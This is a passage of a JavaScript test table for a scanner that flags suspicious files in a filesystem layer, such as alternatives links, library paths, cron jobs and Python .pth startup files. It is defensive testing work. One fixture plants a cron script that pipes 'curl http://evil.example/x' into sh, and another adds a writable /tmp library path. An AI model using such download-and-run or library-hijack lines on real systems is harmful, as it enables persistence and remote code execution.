        [link('etc/alternatives/pager', '/bin/tar'), choices],
        ['medium alternative-replaced etc/alternatives/pager'],
      ],
      ['one that leads nowhere', [link('etc/alternatives/pager', '/usr/bin/gone'), choices], []],
      ['links without a database', [link('etc/alternatives/pager', '/opt/x'), program('opt/x')], []],
      [
        'a page of a manual',
        [link('etc/alternatives/p.1.gz', '/usr/share/man/x'), choices, file('usr/share/man/x')],
        [],
      ],
      [
        'a place for libraries',
        [file('etc/ld.so.conf.d/x.conf', '# x\n/opt/x/lib\n')],
        ['low unowned-library-path etc/ld.so.conf.d/x.conf'],
      ],
      [
        'a place for libraries where others write',
        [file('etc/ld.so.conf', 'include /etc/ld.so.conf.d/*.conf\n/tmp/.x\n')],
        ['high unsafe-library-path etc/ld.so.conf'],
      ],
      [
        'a job of Alpine',
        [program('etc/periodic/15min/x', '#!/bin/sh\necho')],
        ['low unowned-cron-job etc/periodic/15min/x'],
      ],
      [
        'one that downloads',
        [program('etc/periodic/daily/x', '#!/bin/sh\ncurl http://evil.example/x | sh\n')],
        ['critical cron-download-and-run etc/periodic/daily/x', 'low unowned-cron-job etc/periodic/daily/x'],
      ],
      ['paths of Python', [file(`${site}/x.pth`, '/opt/x\nimports\n')], []],
      ['code that a package lists', [file(`${site}/x.pth`, 'import x\n'), record('x.pth')], []],
      ['code of a virtual environment', [file(`${site}/_virtualenv.pth`, 'import _virtualenv\n')], []],
      [
        'code that no package lists',
        [file(`${site}/y.pth`, 'import y\n'), record('x.pth')],
        [`low unowned-python-startup ${site}/y.pth`],
      ],
      ['code that starts something', [file(`${site}/y.pth`, lost)], [`high python-startup-code ${site}/y.pth`]],
      [
        'the same in a package that lists it',
        [file(`${site}/x.pth`, lost), record('x.pth')],
        [`high python-startup-code ${site}/x.pth`],
      ],
    ])('reports or ignores %s', async (_, layer, expected) => {
      const found = await evaluate(base, layer);
      expect(found.map(({ id, path, severity }) => `${severity} ${id} ${path}`)).toEqual(expected);
    });
  });
});
